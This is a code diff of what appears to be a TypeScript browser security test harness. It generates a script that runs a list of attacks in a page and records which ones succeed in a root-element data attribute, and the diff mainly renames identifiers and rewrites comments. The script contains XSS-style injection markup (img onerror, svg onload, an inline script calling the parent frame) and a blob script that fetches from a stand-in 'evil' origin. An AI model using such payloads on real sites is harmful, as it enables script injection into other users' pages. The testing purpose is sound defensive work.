@@ -1,68 +1,71 @@
 import type { Attack } from './Attack';
 
-/** What came of the attacks; the page keeps it in an attribute, where browsers let anybody look who sees the document. */
-interface Attacked {
-  /** Names of the attacks that did what they meant to. */
-  readonly managed: string[];
-  /** How many were tried, refused ones included. */
+/** Progress of the attacks. The page stores it in an attribute, which every browser driver can read. */
+interface AttackState {
+  /** Names of the attacks that succeeded. */
+  readonly succeeded: string[];
+  /** Number of attacks so far, including blocked ones. */
   readonly tried: number;
-  readonly isOver: boolean;
+  readonly isDone: boolean;
 }
 
-const kept = 'attacked';
+const stateKey = 'attacked';
 
-/** What the `data-` attributes of a page's root tell of the attacks in it; undefined: none has begun. */
-export function attackedIn({ [kept]: text }: DOMStringMap): Attacked | undefined {
-  return text === undefined ? undefined : (JSON.parse(text) as Attacked);
+/** Reads the progress from the `data-` attributes of the root element. Undefined before the first attack. */
+export function readAttackState({ [stateKey]: text }: DOMStringMap): AttackState | undefined {
+  return text === undefined ? undefined : (JSON.parse(text) as AttackState);
 }
 
-function attackText(name: string, attack: Attack, evil: string): string {
+function attackSource(name: string, attack: Attack, evilOrigin: string): string {
   const literal = JSON.stringify;
-  const call = `__told(${literal(name)})`;
-  const ran = literal(call);
-  const markup = `<img src="data:," onerror='${call}'><svg onload='${call}'></svg><script>parent.${call}</script>`;
-  const memory = (text: string, type: string) =>
+  const call = `__succeed(${literal(name)})`;
+  const code = literal(call);
+  const html = `<img src="data:," onerror='${call}'><svg onload='${call}'></svg><script>parent.${call}</script>`;
+  const blobUrl = (text: string, type: string) =>
     `URL.createObjectURL(new Blob([${text}], { type: '${type}' }))`;
   const body = attack({
-    ran,
-    html: literal(markup),
-    blob: memory(literal(`globalThis.__told ? ${call} : fetch('${evil}/worker')`), 'text/javascript'),
-    page: memory(literal(markup), 'text/html'),
-    evil,
+    code,
+    markup: literal(html),
+    scriptUrl: blobUrl(
+      literal(`globalThis.__succeed ? ${call} : fetch('${evilOrigin}/worker')`),
+      'text/javascript',
+    ),
+    pageUrl: blobUrl(literal(html), 'text/html'),
+    evilOrigin,
   });
-  return `[${literal(name)}, async (told) => { ${body} }]`;
+  return `[${literal(name)}, async (succeed) => { ${body} }]`;
 }
 
 /**
- * The text of a script that tries one attack after the other in the page that runs it. Each has its own time to
- * settle, because what is refused often says nothing at all.
+ * Returns the source text of a script that runs the attacks one after the other in its page. Each attack has its own
+ * time limit, because the browser often blocks an attack without an error.
  */
-export function attackScript(attacks: Readonly<Record<string, Attack>>, evil: string): string {
-  const list = Object.entries(attacks).map(([name, attack]) => attackText(name, attack, evil));
+export function attackScript(attacks: Readonly<Record<string, Attack>>, evilOrigin: string): string {
+  const list = Object.entries(attacks).map(([name, attack]) => attackSource(name, attack, evilOrigin));
   return `;(() => {
-    if (globalThis.__told) return;
-    const state = { managed: [], tried: 0, isOver: false };
-    const keep = () => { document.documentElement.dataset.${kept} = JSON.stringify(state) };
-    globalThis.__told = (name) => { state.managed.push(name); keep() };
-    addEventListener('message', ({ data }) => { if (data === 'ran') __told('a frame that told by message') });
-    const turn = () => new Promise((go) => setTimeout(go, 50));
+    if (globalThis.__succeed) return;
+    const state = { succeeded: [], tried: 0, isDone: false };
+    const save = () => { document.documentElement.dataset.${stateKey} = JSON.stringify(state) };
+    globalThis.__succeed = (name) => { state.succeeded.push(name); save() };
+    addEventListener('message', ({ data }) => { if (data === 'ran') __succeed('a frame that posts a message') });
+    const turn = () => new Promise((resolve) => setTimeout(resolve, 50));
     const settled = (target) => Promise.race([
-      new Promise((go) => { for (const type of ['load', 'error']) target.addEventListener(type, go) }),
-      new Promise((go) => setTimeout(go, 500)),
+      new Promise((resolve) => { for (const type of ['load', 'error']) target.addEventListener(type, resolve) }),
+      new Promise((resolve) => setTimeout(resolve, 500)),
     ]);
     const attacks = [${list.join(',\n')}];
-    const begin = async () => {
+    const run = async () => {
       for (const [name, attack] of attacks) {
         state.tried += 1;
-        keep();
-        try { await attack(() => __told(name)) } catch { /* Refused. */ }
+        save();
+        try { await attack(() => __succeed(name)) } catch { /* Blocked. */ }
         await turn();
       }
-      // What is asked for when the page has nothing else to do.
-      await new Promise((go) => setTimeout(go, 1_000));
-      state.isOver = true;
-      keep();
+      // Some attacks send their request only when the page is idle.
+      await new Promise((resolve) => setTimeout(resolve, 1_000));
+      state.isDone = true;
+      save();
     };
-    if (document.readyState === 'complete') begin(); else addEventListener('load', begin);
+    if (document.readyState === 'complete') run(); else addEventListener('load', run);
   })();`;
 }
